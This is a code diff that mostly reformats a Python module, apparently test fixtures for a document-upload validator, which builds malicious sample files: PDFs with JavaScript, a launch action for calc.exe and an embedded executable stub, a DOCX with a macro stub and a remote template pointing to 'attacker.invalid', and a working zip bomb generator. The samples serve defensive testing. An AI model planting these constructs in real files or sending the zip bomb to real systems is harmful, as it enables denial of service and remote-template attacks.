@@ -28,11 +28,11 @@ __all__ = [
     "active_pdf",
     "docx",
     "encrypted_pdf",
+    "external_relationship_docx",
     "javascript_pdf",
     "jpeg",
     "low_dpi_pdf",
     "macro_docx",
-    "external_relationship_docx",
     "mislabeled_png",
     "oversize_jpeg",
     "pdf",
@@ -112,10 +112,13 @@ def pdf(
     pages = [300] if pages is None else pages
     count = len(pages)
     kids = b" ".join(b"%d 0 R" % (3 + 3 * i) for i in range(count))
-    objects = [b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b">>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)]
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b">>",
+        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
+    ]
     noise_per_page = noise_bytes // max(1, sum(1 for p in pages if p))
     for index, dpi in enumerate(pages):
-        page_no, content_no, image_no = 3 + 3 * index, 4 + 3 * index, 5 + 3 * index
+        content_no, image_no = 4 + 3 * index, 5 + 3 * index
         if dpi:
             width, height = round(A4_INCHES[0] * dpi), round(A4_INCHES[1] * dpi)
             pixels = _scan_pixels(width, height, -(-noise_per_page // width) if noise_bytes else 0, index)
@@ -164,7 +167,10 @@ def active_pdf(kind: str = "javascript") -> Sample:
         "launch": (b"/OpenAction %d 0 R" % n, [b"<< /S /Launch /F (calc.exe) >>"]),
         "embedded_file": (
             b"/Names << /EmbeddedFiles << /Names [(a.exe) %d 0 R] >> >>" % n,
-            [b"<< /Type /Filespec /F (a.exe) /EF << /F %d 0 R >> >>" % (n + 1), _stream(b"/Type /EmbeddedFile ", b"MZ")],
+            [
+                b"<< /Type /Filespec /F (a.exe) /EF << /F %d 0 R >> >>" % (n + 1),
+                _stream(b"/Type /EmbeddedFile ", b"MZ"),
+            ],
         ),
         "xfa": (b"/AcroForm << /Fields [] /XFA %d 0 R >>" % n, [_stream(b"", b"<xdp:xdp/>")]),
         "page_action": (b"/AA << /WC %d 0 R >>" % n, [b"<< /S /GoTo /D [3 0 R /Fit] >>"]),
@@ -199,14 +205,14 @@ def _rc4(key: bytes, data: bytes) -> bytes:
 
 def encrypted_pdf(owner_password: bytes = b"owner") -> Sample:
     """A text PDF encrypted with the standard security handler (RC4 40-bit, revision 2, empty user password)."""
-    ident = hashlib.md5(b"egisz-sdk sample").digest()  # noqa: S324 - the PDF 1.1 algorithm, not security
-    owner_key = hashlib.md5((owner_password + _PAD)[:32]).digest()[:5]  # noqa: S324
+    ident = hashlib.md5(b"egisz-sdk sample").digest()
+    owner_key = hashlib.md5((owner_password + _PAD)[:32]).digest()[:5]
     owner = _rc4(owner_key, _PAD)  # the padded empty user password
     perms = -44
-    key = hashlib.md5(_PAD + owner + struct.pack("<i", perms) + ident).digest()[:5]  # noqa: S324
+    key = hashlib.md5(_PAD + owner + struct.pack("<i", perms) + ident).digest()[:5]
     user = _rc4(key, _PAD)
     content = b"BT /F1 12 Tf 72 760 Td (Secret) Tj ET"
-    object_key = hashlib.md5(key + (4).to_bytes(3, "little") + b"\0\0").digest()[:10]  # noqa: S324
+    object_key = hashlib.md5(key + (4).to_bytes(3, "little") + b"\0\0").digest()[:10]
     objects = [
         b"<< /Type /Catalog /Pages 2 0 R >>",
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
@@ -309,12 +315,15 @@ def docx(
     entries: list[tuple[str, bytes]] = []
     if macro:
         overrides += '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
-        rels.append(f'<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>')
+        vba = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
+        rels.append(f'<Relationship Id="rId9" Type="{vba}" Target="vbaProject.bin"/>')
         entries.append(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504))
     if external:
-        rels.append(f'<Relationship Id="rId8" Type="{_R}/attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/>')
+        target = 'Target="http://attacker.invalid/t.dotm" TargetMode="External"'
+        rels.append(f'<Relationship Id="rId8" Type="{_R}/attachedTemplate" {target}/>')
     if hyperlink:
-        rels.append(f'<Relationship Id="rId7" Type="{_R}/hyperlink" Target="https://minzdrav.gov.ru/" TargetMode="External"/>')
+        target = 'Target="https://minzdrav.gov.ru/" TargetMode="External"'
+        rels.append(f'<Relationship Id="rId7" Type="{_R}/hyperlink" {target}/>')
     types = (
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
         '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
@@ -366,9 +375,11 @@ def zip_bomb(uncompressed: int = 16 * MiB, entries: int = 1, name: str = "contra
     """A ZIP whose ``entries`` entries each inflate to ``uncompressed`` bytes of zeros (ratio ~1000:1)."""
     chunk = zlib.compressobj(1, zlib.DEFLATED, -15)
     zeros = b"\0" * MiB
-    body = b"".join(chunk.compress(zeros) for _ in range(uncompressed // MiB)) + chunk.compress(
-        b"\0" * (uncompressed % MiB)
-    ) + chunk.flush()
+    body = (
+        b"".join(chunk.compress(zeros) for _ in range(uncompressed // MiB))
+        + chunk.compress(b"\0" * (uncompressed % MiB))
+        + chunk.flush()
+    )
     crc = 0
     for _ in range(uncompressed // MiB):
         crc = zlib.crc32(zeros, crc)
@@ -381,7 +392,24 @@ def zip_bomb(uncompressed: int = 16 * MiB, entries: int = 1, name: str = "contra
         out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x5821, crc, len(body), uncompressed, len(path), 0)
         out += path + body
         central += struct.pack(
-            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x5821, crc, len(body), uncompressed, len(path), 0, 0, 0, 0, 0, offset
+            "<IHHHHHHIIIHHHHHII",
+            0x02014B50,
+            20,
+            20,
+            0,
+            8,
+            0,
+            0x5821,
+            crc,
+            len(body),
+            uncompressed,
+            len(path),
+            0,
+            0,
+            0,
+            0,
+            0,
+            offset,
         )
         central += path
     start = len(out)
